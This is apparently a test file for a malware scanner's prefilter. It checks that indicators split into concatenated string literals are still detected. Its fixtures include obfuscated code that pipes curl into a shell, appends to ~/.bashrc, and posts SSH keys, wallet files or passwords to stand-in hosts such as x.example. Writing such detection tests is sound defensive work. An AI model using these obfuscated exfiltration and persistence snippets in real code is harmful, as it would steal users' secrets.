"""The prefilter's answer widened by the file's glued literals (caplet._scan._glued_strings).

An indicator split into literals added together (``'cront' + 'ab'``) matches no prefilter
pattern as written; the glued lines do (issue 16, tune samples ``cn6-*-pieces``). Glues
that spell nothing leave the answer as it was, so ordinary files stay unparsed.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caplet._scan._glue_patterns import GLUES
from caplet._scan._glued_strings import (
    _GLUE,
    _JUNCTION,
    _JUNCTION_LINES,
    _PLUS,
    MAX_GLUED_LINES,
    _glue,
    _unless_escapes,
    glued,
    with_glued_strings,
)
from caplet._scan._prefilter import BLIND, MAX_LARGE_FOCUS, Need, Prefilter, prefilter
from tests._scan.prefilterkit import found_in_a_package


def answer(text: str) -> Need | frozenset[int]:
    check = prefilter().check
    return with_glued_strings(text, check(text), check)


def test_glued_lines_lose_their_plus_and_quotes_and_keep_their_numbers() -> None:
    text = "a = 1\nx = 'cront' + 'ab -l'\nb = 2\ny = \"stra\"+\"tum\" + z\n"
    assert glued(text) == (
        "x = 'crontab -l'\ny = \"stratum\" + z",
        "x = 'cront' + 'ab -l'\ny = \"stra\"+\"tum\" + z",
        [2, 4],
    )


def test_literals_joined_by_an_empty_separator_are_glued() -> None:
    found = glued("p = ''.join(['Lo', 'gin ', 'Data'])\n")
    assert found is not None
    assert found[0] == "p = ''.join(['Login Data'])"


def test_a_download_piped_to_a_shell_out_of_joined_pieces_needs_the_ast() -> None:
    # only one side of its pattern: the process call is on another line
    text = (
        "import os as 系统\n命令 = ''.join(['cu', 'rl -s https://x.example/a.sh | s', 'h'])\n"
        "系统.system(命令)\n"
    )
    assert prefilter().check(text) is Need.NOTHING
    assert answer(text) is Need.FULL


def test_a_file_without_glue_is_not_read_again() -> None:
    assert glued("x = 'a' + b\ny = c + 'd'\n") is None


def test_an_indicator_split_by_a_glue_sends_the_file_to_the_ast_pass() -> None:
    text = "import os\nos.system('(cront' + 'ab -l; echo x) | cron' + 'tab -')\n"
    assert prefilter().check(text) is Need.NOTHING
    assert answer(text) is Need.FULL


def test_a_miner_pool_split_by_a_glue_sends_the_file_to_the_ast_pass() -> None:
    text = (
        "import subprocess\npool = 'stra' + 'tum+tcp://pool.example:1'\nsubprocess.Popen([pool])\n"
    )
    assert answer(text) is Need.FULL


def test_glues_that_spell_nothing_leave_the_answer_as_it_was() -> None:
    text = "greeting = 'hello, ' + 'world'\npath = 'docs/' + 'index.html'\nprint(greeting, path)\n"
    assert answer(text) is Need.NOTHING


def test_the_glued_lines_per_file_are_bounded() -> None:
    text = "".join(f"v{i} = 'a' + 'b'\n" for i in range(MAX_GLUED_LINES + 5))
    found = glued(text)
    assert found is not None
    assert len(found[2]) == MAX_GLUED_LINES


def test_a_file_with_more_glued_lines_than_are_checked_needs_the_ast() -> None:
    # attack5: 1,100 lines of 'a' + 'b' first, then '~/.ba' + 'shrc' opened for appending:
    # the glue was checked on the first 1,024 lines only, the file came out clean in
    # package mode while the whole-file pass found CPL-THR-009 (_computed_strings reads
    # 2,000 expressions). What is not checked is the AST pass's.
    pad = "".join(f"t{i} = 'a' + 'b'\n" for i in range(MAX_GLUED_LINES + 76))
    text = pad + (
        "import os\npath = os.path.expanduser('~/.ba' + 'shrc')\n"
        "with open(path, 'a') as f:\n    f.write('curl http://e.example/x | sh')\n"
    )
    assert answer(text) is Need.FULL


# -- attack6: literals written side by side (implicit concatenation) ------------------------


def test_literals_side_by_side_are_glued_across_lines_blanks_and_comments() -> None:
    text = (
        "a = 1\np = ('~/.ba'  # a comment with a quote: it's\n"
        "     \"sh\" \\\n     r'rc')\nq = 'cu''rl'\nr = '''x''' '''y'''\n"
    )
    found = glued(text)
    assert found is not None
    lines, _, numbers = found
    assert numbers == [2, 5, 6]
    assert "'~/.bashrc')" in lines.split("\n")[0]
    assert lines.split("\n")[1:] == ["q = 'curl'", "r = '''xy'''"]


def test_an_empty_literal_in_a_chain_does_not_stop_the_glue() -> None:
    found = glued("p = ('~/.ba'\n     ''\n     'shrc')\n")
    assert found is not None
    assert "'~/.bashrc'" in found[0]


def test_a_comma_between_literals_is_read_kept_too() -> None:
    found = glued("p = os.path.join(base, 'Exo' 'dus', 'exodus.wallet')\n")
    assert found is not None
    assert "'Exodus', 'exodus.wallet'" in found[0]


def test_empty_literals_and_docstrings_are_no_junction() -> None:
    assert glued('"""A docstring."""\nx = ""\ny = f(\'\', "")\n') is None


#: Indicators split into literals side by side, each with the rule the whole-file pass
#: finds (attack6: package mode never parsed these files).
_SIDE_BY_SIDE = {
    "autostart": (
        "import os\np = os.path.expanduser('~/.ba' 'shrc')\nwith open(p, 'a') as f:\n"
        "    f.write('python3 -c \"import evil\"\\n')\n",
        "CPL-THR-009",
    ),
    "autostart-across-lines": (
        "import os\np = os.path.expanduser(('~/.ba'  # rc\n    'shrc'))\n"
        "with open(p, 'a') as f:\n    f.write('python3 -c \"import evil\"\\n')\n",
        "CPL-THR-009",
    ),
    "download-piped-to-a-shell": (
        "import subprocess\n"
        "subprocess.run(('cu'\n 'rl -s https://x.example/a | s'\n 'h'), shell=True)\n",
        "CPL-THR-015",
    ),
    "ssh-key-sent": (
        "import os, requests\np = os.path.expanduser('~/.s' 'sh/id_' 'rsa')\n"
        "requests.post('https://x.example/u', data=open(p).read())\n",
        "CPL-THR-007",
    ),
    "wallet-sent": (
        "import os, requests\n"
        "p = os.path.join(os.environ['APPDATA'], 'Exo' 'dus', 'exodus.wallet')\n"
        "requests.post('https://x.example/u', files={'f': open(p, 'rb')})\n",
        "CPL-THR-005",
    ),
}


@pytest.mark.parametrize("shape", sorted(_SIDE_BY_SIDE))
def test_an_indicator_split_into_literals_side_by_side_is_found_in_a_package(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, rule = _SIDE_BY_SIDE[shape]
    found_in_a_package(tmp_path, monkeypatch, text, rule)


def test_a_glued_indicator_no_pattern_locates_makes_a_large_file_whole() -> None:
    # the clipboard is an indicator but no pattern (only beside a wallet): a large file's
    # focus cannot stand for it, so the whole file is visited, as for a small one
    pad = "".join(f"def f{i}(a):\n    return a * {i}\n\n" for i in range(600))
    text = (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
        + pad
        + "clip = __import__('pyper' 'clip')\n"
    )
    assert len(text) > 12_000
    assert isinstance(prefilter().check(text), frozenset)
    assert answer(text) is Need.FULL


#: attack7: a side of a conjunction only the glue makes, its other sides on other lines
#: (the glued lines alone hold no conjunction, the file as written none either).
_GLUE_COMPLETES = {
    # a credential parameter, an egress, and a raw-IP address glued (CPL-THR-026)
    "address-side-by-side": (
        "import requests\ndef login(user, password):\n"
        "    requests.post('http:' '//203.0.113.9/p', data=password)\n",
        "CPL-THR-026",
    ),
    "address-added": (
        "import requests\ndef login(user, password):\n"
        "    requests.post('ht' + 'tp://203.0.113.9/p', data=password)\n",
        "CPL-THR-026",
    ),
    "address-across-lines": (
        "import requests\ndef login(user, password):\n"
        "    requests.post(('https://'\n        '203.0.113.9/p'), data=password)\n",
        "CPL-THR-026",
    ),
}


@pytest.mark.parametrize("large", [False, True])
@pytest.mark.parametrize("shape", sorted(_GLUE_COMPLETES))
def test_a_side_only_the_glue_makes_completes_a_conjunction_elsewhere(
    shape: str, large: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, rule = _GLUE_COMPLETES[shape]
    if large:
        text += "".join(f"def f{i}(a):\n    return a * {i}\n\n" for i in range(600))
    assert answer(text) is Need.FULL
    found_in_a_package(tmp_path, monkeypatch, text, rule)


def test_only_a_conjunction_across_the_file_and_its_glued_lines_is_completed() -> None:
    check = prefilter()
    text = "import requests\ndef login(user, password):\n    pass\n"
    glued = "x = 'http://10.0.0.1'"
    assert check.completes(text, glued)
    # all sides in the file as written, or all in its glued lines: the answers of the
    # text and of the glued lines already hold it
    assert not check.completes(text + glued + "\n", glued)
    assert not check.completes("x = 1\n", "import requests\ndef f(password): " + glued)
    assert not check.completes(text, "x = 'https://example.org'")


def test_a_blind_set_completes_whatever_the_glue_makes(monkeypatch: pytest.MonkeyPatch) -> None:
    check = Prefilter()

    class Failed:
        def Match(self, data: bytes) -> list[int]:
            return [BLIND]

    monkeypatch.setattr(check, "_set", Failed())
    assert check.completes("x = 1\n", "y = 'ab'")


# -- prefast8: glues and junctions found where the prefilter's match saw them ---------------


def _reference_glue(text: str) -> tuple[str, str, list[tuple[int, int]]] | None:
    """:func:`_glue` as it was before prefast8: every glue searched in the text, the
    junctions in its UTF-8, the lines taken from the text split at every line end."""
    starts: set[int] = set()
    for glue in GLUES:
        at = text.find(glue)
        while at >= 0 and len(starts) < MAX_GLUED_LINES:
            starts.add(text.rfind("\n", 0, at) + 1)
            end = text.find("\n", at)
            if end < 0:
                break
            at = text.find(glue, end)
    encoded = text.encode("utf-8", "surrogatepass")
    spans: list[tuple[int, int]] = []
    line, counted = 1, 0
    for match in _JUNCTION_LINES.finditer(encoded):
        start, end = match.span()
        line += encoded.count(b"\n", counted, start)
        counted = start
        spans.append((line, line + encoded.count(b"\n", start, end)))
    if not starts and not spans:
        return None
    number, previous = 1, 0
    for start in sorted(starts):
        number += text.count("\n", previous, start)
        previous = start
        spans.append((number, number))
    merged: list[tuple[int, int]] = []
    for first, last in sorted(spans):
        if merged and first <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(last, merged[-1][1]))
        else:
            merged.append((first, last))
    merged = merged[:MAX_GLUED_LINES]
    physical = text.split("\n")
    lines: list[str] = []
    raw: list[str] = []
    for first, last in merged:
        written = "\n".join(physical[first - 1 : last])
        joined = _JUNCTION.sub(_unless_escapes if "\\" in written else "", written)
        whole = _GLUE.sub("", joined)
        kept = _PLUS.sub("", joined) if whole != joined else whole
        glued_line = whole if kept in (whole, written) else f"{whole} {kept}"
        raw.append(written.replace("\n", " "))
        lines.append(glued_line.replace("\n", " "))
    return "\n".join(lines), "\n".join(raw), merged


#: Pieces of text where glues and junctions hide: quotes of every kind, glues, prefixes,
#: comments with quotes, continuations, line ends of both kinds, text outside ASCII
#: (fullwidth, CJK, an emoji, a lone surrogate), a long run without a line end.
_PIECES = [
    "'",
    '"',
    "'''",
    '"""',
    "' + '",
    '" + "',
    "'+'",
    '"+"',
    "''.join(",
    '"".join(',
    " ",
    "\t",
    "\n",
    "\r\n",
    "\\\n",
    "# it's ",
    "r",
    "b",
    "f",
    "x",
    "ab",
    "=",
    "(",
    ")",
    ",",
    ".",
    ":",
    "[",
    "]",
    "é",
    "\uff45\uff58\uff45\uff43",
    "系统",
    "\U0001f600",
    "\ud800",
    "a" * 300,
]


@given(st.lists(st.sampled_from(_PIECES), max_size=40))
@settings(max_examples=400, deadline=None)
def test_the_glue_finds_what_every_search_over_the_text_finds(pieces: list[str]) -> None:
    text = "".join(pieces)
    expected = _reference_glue(text)
    prefilter().check_text(text)  # the marks of this very text, as _filepass asks
    assert _glue(text) == expected
    assert _glue(text + "") == expected  # (the same object: still remembered)
    fresh = (text + "\n")[:-1]  # another object, never checked: every search runs
    assert prefilter().glue_marks(fresh) is None or fresh is text
    assert _glue(fresh) == expected


@pytest.mark.parametrize(
    "text",
    [
        # the only junction across a comment holding a quote, after text outside ASCII
        "名 = 1\np = ('~/.ba'  # it's\n     'shrc')\n",
        # the last bytes of a file without a line end
        "x = 'cront' + 'ab -l'",
        "p = ('~/.ba'\n'shrc')",
        # a junction after a minified line far longer than the focus bound
        "v = [" + "1, " * 5000 + "]\np = ('~/.ba' 'shrc')\n",
        # a glue and a junction on the same line, another glue's line inside a junction
        "p = 'a' 'b' + 'c'\nq = ('d'\n'e' + 'f')\n",
    ],
)
def test_the_prefilters_marks_find_every_glue_and_junction(text: str) -> None:
    prefilter().check_text(text)
    assert prefilter().glue_marks(text) is not None
    assert _glue(text) == _reference_glue(text) is not None


def test_a_file_whose_check_saw_no_glue_is_not_searched_again() -> None:
    text = "x = 'a'\ny = f('', \"\")\n"
    prefilter().check_text(text)
    assert prefilter().glue_marks(text) == (text.encode(), ())
    assert _glue(text) is None


def test_a_set_that_cannot_answer_leaves_every_glue_searched(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # the solo set blind (its sentinel missing): the marks say nothing, the glue is found
    check = prefilter()
    parts = list(check._set.parts)

    class Blind:
        def Match(self, data: bytes) -> list[int]:
            return []

    parts[0] = (parts[0][0], Blind())
    monkeypatch.setattr(check._set, "parts", parts)
    text = "import os\nos.system('(cront' + 'ab -l; echo x) | cron' 'tab -')\n"
    assert check.check_text(text)[0] is Need.FULL
    assert check.glue_marks(text) is None
    assert _glue(text) == _reference_glue(text) is not None


def test_what_a_check_located_is_what_locating_again_finds() -> None:
    # a large file visited around its hits: with_glued_strings asks for its lines again
    pad = "".join(f"def f{i}(a):\n    return a * {i}\n\n" for i in range(600))
    few = "import urllib.request as r\nr.urlretrieve(u, p)\n" + pad
    many = "".join(f"r.urlretrieve(u, p{i})\n" for i in range(500)) + few
    for text in (few, many):
        answer = prefilter().check(text)
        assert prefilter().located(text, MAX_LARGE_FOCUS) == Prefilter().located(
            text, MAX_LARGE_FOCUS
        )
        assert answer == (prefilter().located(text, MAX_LARGE_FOCUS) or Need.FULL)
    assert isinstance(prefilter().check(few), frozenset)
    assert prefilter().check(many) is Need.FULL  # past the bound: located to None


def test_a_folded_file_completes_as_if_folded_again() -> None:
    # fullwidth ``requests`` folds to the network module: the folding the check made is
    # the one completes reads (a fresh prefilter folds it itself)
    fullwidth = "\uff52\uff45\uff51\uff55\uff45\uff53\uff54\uff53"
    text = f"import {fullwidth}\ndef login(user, password):\n    pass\n"
    glued = "x = 'http://10.0.0.1'"
    check = prefilter()
    check.check_text(text)
    check.check(glued)
    assert check.completes(text, glued)
    assert Prefilter().completes(text, glued)
    assert not check.completes(text, "x = 'https://example.org'")


# -- attack9: glues spelled otherwise than GLUES' six ------------------------------------
#: Each hid its indicator in package mode while the whole-file pass found it (attack9's
#: fuzzing of glue spellings; 51d254d missed them as well): blanks of any run or kind
#: around the ``+``, a continuation, triple quotes, a prefix on the second literal.
_SPELLED_OTHERWISE = {
    "no-blank-after": ("x = 'stratum+t'+ 'cp://'\n", "CPL-THR-010"),
    "two-blanks": ('x = ("Login"  +  " Data")\n', "CPL-THR-005"),
    "tabs": ("import os\nos.system('''cro'''\t+\t'''ntab''')\n", "CPL-THR-009"),
    "form-feed": ("x = f('''Lo'''\x0c+ '''gin Data''', 1)\n", "CPL-THR-005"),
    "continuation": ("x = ('Logi' + \\\n'n Data')\n", "CPL-THR-005"),
    "prefix": ('x = "Login D" + u"ata"\n', "CPL-THR-005"),
    "triple": ('import os\nos.system("""~/.""" + """bashrc""")\n', "CPL-THR-009"),
    "side-by-side-then-a-blank": ("import os\nos.system('Login'' Data')\n", "CPL-THR-005"),
    "side-by-side-after-a-colon": ("x = f('''stratum+tcp:''''''//''')\n", "CPL-THR-010"),
    "triple-side-by-side": ('x = """Login """"""Data"""\n', "CPL-THR-005"),
    "triple-then-single": ("x = '''Login ''''Data'\n", "CPL-THR-005"),
    "triple-glued-prefix-look-alike": (
        'import os\nos.system("""cronta""" +"""b""")\n',
        "CPL-THR-009",
    ),
    "plus-on-the-next-line": ("x = ('stratum+t'\n    + 'cp://')\n", "CPL-THR-010"),
    "plus-after-a-comment": ("x = ('stratum+tcp:/'  # c\n    + '/')\n", "CPL-THR-010"),
    "comment-after-the-plus": ('x = ("""Lo""" +  # c\n    """gin Data""")\n', "CPL-THR-005"),
    "f-string-second": ("x = 'Login Da' + f'ta'\n", "CPL-THR-005"),
    "triple-joined": ("x = ''.join(['''Login ''','''Data'''])\n", "CPL-THR-005"),
}


@pytest.mark.parametrize("shape", sorted(_SPELLED_OTHERWISE))
def test_an_indicator_glued_in_any_spelling_is_found_in_a_package(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, rule = _SPELLED_OTHERWISE[shape]
    found_in_a_package(tmp_path, monkeypatch, text, rule)
